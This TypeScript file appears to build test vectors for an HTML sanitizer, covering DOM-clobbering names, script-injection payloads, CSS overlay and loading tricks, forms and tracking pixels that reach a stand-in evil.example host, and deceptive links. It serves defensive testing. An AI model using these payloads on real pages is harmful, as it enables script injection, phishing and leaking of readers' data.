import { combine, type Piece, vectors } from './vector.ts';

/** Names that the page, the app or its libraries look up by name: an element that bears one would be found instead. */
const names = [
  ...['root', 'page-data', 'story-title', 'app', 'main', 'sections', 'note-1', 'row-1', '__proto__', 'constructor'],
  ...[
    'prototype',
    'hasOwnProperty',
    'toString',
    'valueOf',
    'then',
    'body',
    'head',
    'documentElement',
    'forms',
    'images',
  ],
  ...[
    'links',
    'scripts',
    'children',
    'childNodes',
    'firstChild',
    'parentNode',
    'ownerDocument',
    'nodeName',
    'nodeType',
  ],
  ...[
    'attributes',
    'innerHTML',
    'textContent',
    'localName',
    'namespaceURI',
    'cookie',
    'domain',
    'location',
    'referrer',
  ],
  ...['title', 'URL', 'baseURI', 'defaultView', 'implementation', 'currentScript', 'readyState', 'activeElement'],
  ...['getElementById', 'getElementsByTagName', 'querySelector', 'querySelectorAll', 'createElement', 'createTextNode'],
  ...['createNodeIterator', 'createDocumentFragment', 'importNode', 'addEventListener', 'removeEventListener'],
  ...['appendChild', 'removeChild', 'insertBefore', 'removeAttribute', 'setAttribute', 'write', 'open', 'close'],
  ...['alert', 'trap', 'name', 'top', 'parent', 'self', 'window', 'document', 'history', 'navigator', 'localStorage'],
  ...['sessionStorage', 'fetch', 'URLSearchParams', 'trustedTypes', 'DOMPurify', 'React', 'ReactDOM', 'Promise', 'Map'],
  ...['requestIdleCallback', 'requestAnimationFrame', 'scheduler', 'MessageChannel', 'IntersectionObserver', 'Intl'],
  ...[
    'performance',
    'crypto',
    'customElements',
    'matchMedia',
    'onerror',
    'onload',
    'opener',
    'event',
    'origin',
    'status',
  ],
  ...['length', 'item', 'namedItem', 'elements', 'action', 'method', 'submit', 'reset', 'style', 'className', 'id'],
].map((name): Piece => [name, name]);

const bearers: readonly (readonly [string, (name: string) => string])[] = [
  ['an id', (name) => `<p id="${name}">话</p><img id="${name}" name="${name}" src="https://img.example.com/n.jpg">`],
  [
    'a link',
    (name) => `<a id="${name}" name="${name}" href="https://evil.example/#${name}">话</a><a href="#${name}">注</a>`,
  ],
  [
    'a form',
    (name) =>
      `<form id="${name}" name="${name}"><input name="${name}" id="${name}"><output name="${name}"></output></form>`,
  ],
  [
    'a frame',
    (name) =>
      `<iframe name="${name}" id="${name}" srcdoc="<a id=${name}></a>"></iframe><object id="${name}" name="${name}"></object><embed name="${name}" id="${name}">`,
  ],
  [
    'an anchor of ours',
    (name) => `<p data-anchor="${name}">话</p><sup data-anchor="${name}"><a href="#${name}">1</a></sup>`,
  ],
];

const clobbering = combine('clobber', bearers, names);

const forms: readonly Piece[] = [
  [
    'a form',
    '<form action="https://evil.example/" method="post"><input name="q" value="x"><input type="submit"></form>',
  ],
  ['a form without an action', '<form><input type=password name=p autofocus><button>登录</button></form>'],
  ['a form that sends itself', '<form id=f action="https://evil.example/"></form><svg onload=f.submit()>'],
  ['a dialog’s form', '<form method="dialog"><button>好</button></form>'],
  [
    'fields of another form',
    '<input form="search" name="q" value="evil"><button form="search" formaction="https://evil.example/">找</button>',
  ],
  [
    'every kind of field',
    ['text', 'password', 'file', 'image', 'color', 'date', 'range', 'hidden', 'checkbox', 'radio', 'reset', 'button']
      .map((type) => `<input type="${type}" name="x" src="https://evil.example/" value="y">`)
      .join(''),
  ],
  ['a choice', '<select name=x autofocus onfocus=trap(1)><optgroup label=y><option selected>一</optgroup></select>'],
  [
    'a rich choice',
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=trap(1)>一</option></select>',
  ],
  ['a text area', '<textarea name=x autofocus onfocus=trap(1)>话</textarea>'],
  ['a list of data', '<input list=d><datalist id=d><option value="x" onclick=trap(1)>一</datalist>'],
  ['a field set', '<fieldset disabled><legend onclick=trap(1)>题</legend><input></fieldset>'],
  ['a label', '<label for="root" onclick=trap(1)>话</label>'],
  ['meters', '<meter value=1></meter><progress></progress><output for=x>话</output>'],
  ['editable text', '<p contenteditable autofocus onfocus=trap(1)>话</p>'],
  ['a key', '<keygen autofocus onfocus=trap(1)><isindex action="javascript:trap(1)">'],
  ['a dialog', '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh"><p>对话框里的话。</p></dialog>'],
  ['a menu', '<menu type=context><menuitem onclick=trap(1) label=x></menu>'],
  ['a canvas', '<canvas width=9999 height=9999 style="position:fixed"></canvas>'],
  [
    'an image map that covers',
    '<img src="https://img.example.com/w.jpg" usemap="#z" ismap><map name=z><area shape=default href="javascript:trap(1)"></map>',
  ],
];

/** Rules that move, cover, load or watch. */
const rules: readonly Piece[] = [
  ['fixed', 'position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647'],
  ['fixed with comments', 'pos/**/ition:fi/**/xed;position/**/:/**/fixed;top:0'],
  ['fixed with escapes', '\\70osition:\\66ixed;t\\6fp:0'],
  ['fixed and important', 'position:fixed!important;inset:0!important'],
  ['fixed by a variable', '--x:fixed;position:var(--x);inset:0'],
  ['absolute', 'position:absolute;left:-9999px;top:-9999px'],
  ['sticky', 'position:sticky;top:0;height:100vh'],
  ['far away by a margin', 'margin:-9999px;transform:scale(99);zoom:99'],
  ['clipped', 'clip-path:url(https://evil.example/x.svg#x);mask:url(https://evil.example/m)'],
  ['background', 'background:url(https://evil.example/b)'],
  ['background in quotes', 'background:url(&quot;javascript:trap(1)&quot;)'],
  ['background by escapes', 'background:\\75rl(https://evil.example/b)'],
  ['background by an image set', 'background:image-set(&quot;https://evil.example/b&quot; 1x)'],
  [
    'background by a cross fade',
    'background:-webkit-cross-fade(url(https://evil.example/1),url(https://evil.example/2),50%)',
  ],
  ['a list’s mark', 'display:list-item;list-style:url(https://evil.example/l)'],
  ['a cursor', 'cursor:url(https://evil.example/c),auto'],
  ['content', 'content:url(https://evil.example/c)'],
  ['a border image', 'border-image:url(https://evil.example/b) 1'],
  ['a filter', 'filter:url(https://evil.example/f#x)'],
  ['a font', 'font:99vw/1 x;font-family:url(https://evil.example/f)'],
  ['expression', 'width:expression(trap(1))'],
  ['expression in pieces', 'width:exp/**/ression(trap(1))'],
  ['behaviour', 'behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#x)'],
  ['an animation', 'animation:x 1s infinite;transition:all 1s'],
  ['a name for a view', 'view-transition-name:root;anchor-name:--x;container-name:x'],
  ['import', '@import url(https://evil.example/i.css)'],
  ['a brace', '}*{position:fixed}'],
  ['an end of style', '</style><script>trap(1)</script>'],
  ['huge', 'display:block;width:999999px;height:999999px;line-height:9999;letter-spacing:999px'],
  ['invisible on top', 'opacity:0;pointer-events:all;z-index:99999;position:relative;display:block;inset:0'],
  ['outside its box', 'box-shadow:0 0 0 9999px red;outline:9999px solid red;text-indent:-9999px'],
];

const dressed: readonly (readonly [string, (rule: string) => string])[] = [
  ['a style', (rule) => `<p style="${rule}">话</p>`],
  ['a style of one quote', (rule) => `<p style='${rule}'>话</p>`],
  ['a style after a slash', (rule) => `<p/style="${rule}">话</p>`],
  ['a second style', (rule) => `<p style="color:red" STYLE="${rule}">话</p>`],
  ['a style of a link', (rule) => `<a href="https://evil.example/" style="${rule}">话</a>`],
  ['a style of a picture', (rule) => `<img src="https://img.example.com/y.jpg" style="${rule}">`],
  ['our own name for a style', (rule) => `<p data-style="${rule}">话</p>`],
  ['a style of Sina', (rule) => `<font cms-style="${rule}">话</font>`],
  [
    'a style in a table',
    (rule) =>
      `<table style="${rule}"><tr style="${rule}"><td style="${rule}" bgcolor=red>一</td><td>二</td></tr></table>`,
  ],
  ['a style sheet', (rule) => `<style>p, body, #root { ${rule.replaceAll('&quot;', '"')} }</style>`],
  [
    'a style sheet of media',
    (rule) =>
      `<style media="all" type="text/css" title=x onload=trap(1)>* { ${rule.replaceAll('&quot;', '"')} }</style>`,
  ],
  ['a style sheet of a drawing', (rule) => `<svg><style>* { ${rule.replaceAll('&quot;', '"')} }</style></svg>`],
];

/** What authors may borrow of ours: classes, attributes the cleaning reads, sizes. */
const borrowed: readonly Piece[] = [
  [
    'our classes',
    '<div class="article-body sheet masthead hidden shell story"><p class="failed-picture embed removed skip-link">话</p></div>',
  ],
  ['a class of a dialog', '<div class="sheet" open><div class="sheet-head">话</div></div>'],
  ['an anchor of ours', '<p data-anchor="note-1">话</p><p data-anchor="note-1">话</p>'],
  ['an alignment of ours', '<p data-align="center;position:fixed">话</p><p data-align="right">话</p>'],
  ['a kind of ours', '<img data-kind="formula" src="https://img.example.com/k.jpg" alt="<script>trap(1)</script>">'],
  [
    'a language of ours',
    '<pre><code data-language="x onclick=trap(1)">话</code></pre><pre><code class="language-<script>">话</code></pre>',
  ],
  ['a formula', '<img src="https://www.zhihu.com/equation?tex=%3Cscript%3Etrap(1)%3C/script%3E" alt="x">'],
  ['a formula of markup', '<img data-formula="<img src=x onerror=trap(1)>" src="https://img.example.com/f.jpg">'],
  [
    'a caption of markup',
    '<img src="https://img.example.com/q.jpg" data-caption="<img src=x onerror=trap(1)>" title="<b onclick=trap(1)>x</b>">',
  ],
  [
    'a caption of a script',
    '<div class="img_wrapper"><img src="https://img.example.com/v.jpg"><span class="img_descr"><script>trap(1)</script>图说<b onclick=trap(1)>二</b></span></div>',
  ],
  [
    'a size of a script',
    '<img src="https://img.example.com/z.jpg" width="100;position:fixed" height="javascript:trap(1)">',
  ],
  ['a size beyond all', '<img src="https://img.example.com/z.jpg" width="99999999999" height="99999999999">'],
  ['a size in percents', '<img src="https://img.example.com/z.jpg" width="10000%" height="-5">'],
  ['a size in the address', '<img src="https://img.example.com/w99999999h99999999/z.jpg">'],
  ['a size in exponents', '<img src="https://img.example.com/z.jpg" data-width="1e308" data-height="1e-308">'],
  ['a pixel', '<img src="https://evil.example/p.gif" width="1" height="1">'],
  ['a pixel by style', '<img src="https://evil.example/p.gif" style="width:1px;height:1px">'],
  ['no pixel', '<img src="https://evil.example/p.gif" width="0" height="0">'],
  ['a hidden pixel', '<img src="https://evil.example/p.gif" style="display:none">'],
  ['a pixel of a tracker', '<img src="https://hm.baidu.com/hm.gif?x">'],
  [
    'a table of a million cells',
    '<table><tr><td colspan="1000" rowspan="65534">一</td><td colspan=1000 rowspan=65534>二</td></tr><tr><td>三</td><td>四</td></tr></table>',
  ],
  [
    'a table with a script of a span',
    '<table><tr><td colspan="javascript:trap(1)">一</td><td rowspan="2;x">二</td></tr><tr><td>三</td><td>四</td></tr></table>',
  ],
  [
    'a scope that is none',
    '<table><tr><th scope="javascript:trap(1)">一</th><th scope=col>二</th></tr><tr><td>三</td><td>四</td></tr></table>',
  ],
  [
    'a list that begins at the end',
    '<ol start="99999999999999999999"><li>一</li></ol><ol start="-1"><li>二</li></ol><ol start="x"><li>三</li></ol>',
  ],
  ['a language with markup', '<span lang="&quot;><script>trap(1)</script>">话</span><p dir="rtl;x" lang="x">话</p>'],
  ['a time with markup', '<time datetime="&quot;><script>trap(1)</script>">昨天</time>'],
  ['an abbreviation with markup', '<abbr title="&quot;><script>trap(1)</script>">缩</abbr>'],
  ['a link’s title with markup', '<a href="https://example.com/" title="&quot; onclick=&quot;trap(1)">话</a>'],
  ['a description with quotes', '<img src="https://img.example.com/g.jpg" alt="&quot; onerror=&quot;trap(1)">'],
  [
    'a video shell of a script',
    `<div data-zkinfo='{"url":"javascript:trap(1)//x.mp4","pic":"javascript:trap(1).jpg"}'></div>`,
  ],
  [
    'a video shell of markup',
    `<div data-zkinfo='{"url":"https:\\/\\/evil.example\\/x.mp4?\\"onclick=trap(1)"}'></div>`,
  ],
  [
    'a video shell of a player',
    `<div data-zkinfo="//player.bilibili.com@evil.example/x.mp4 //evil.example/p.jpg"></div>`,
  ],
  ['notes', '<p>话<a href="#fn1" id="ref1">[1]</a></p><p id="fn1">注<a href="#ref1">↩</a></p>'],
  ['notes called like a script', '<p><a href="#javascript:trap(1)">注</a></p><p id="javascript:trap(1)">话</p>'],
  [
    'notes called like a property',
    '<p><a href="#__proto__">注</a><a href="#constructor">注</a></p><p id="__proto__">话</p><p id="constructor">话</p>',
  ],
  ['notes in percent', '<p><a href="#%3Cscript%3E">注</a><a href="#%E4%">注</a></p><p id="<script>">话</p>'],
  ['a file called like a property', '<a href="__proto__">话</a><img src="constructor"><a href="toString">话</a>'],
  ['small print of a script', '<p>原文：javascript:trap(1)</p><p>责任编辑：&lt;script&gt;trap(1)&lt;/script&gt;</p>'],
  ['small print of a password', '<p>原文链接：https://user:secret@evil.example/</p>'],
  ['a microdata item', '<p itemscope itemtype="https://evil.example/" itemprop="x" itemid="javascript:trap(1)">话</p>'],
  ['roles', '<p role="alert" aria-live="assertive" aria-label="evil" aria-owns="root" tabindex="1">话</p>'],
];

/** Links that say one thing and do another. */
const misleading: readonly Piece[] = [
  ['another host in its text', '<a href="https://evil.example/">https://bank.example/</a>'],
  ['another host in Cyrillic', '<a href="https://b\u0430nk.example/">bank.example</a>'],
  ['a target', '<a href="https://evil.example/" target="_parent" rel="opener">话</a>'],
  ['a target by name', '<a href="https://evil.example/" target="root">话</a>'],
  ['a download', '<a href="https://evil.example/x.exe" download="报告.pdf">话</a>'],
  [
    'a referrer',
    '<a href="https://evil.example/" referrerpolicy="unsafe-url">话</a><img src="https://evil.example/r.jpg" referrerpolicy="unsafe-url" crossorigin="use-credentials">',
  ],
  ['a ping', '<a href="https://example.com/" ping="https://evil.example/p">话</a>'],
];

export const pageVectors = [
  ...clobbering,
  ...vectors('form', forms),
  ...combine('style', dressed, rules),
  ...vectors('borrowed', borrowed),
  ...vectors('link', misleading),
];
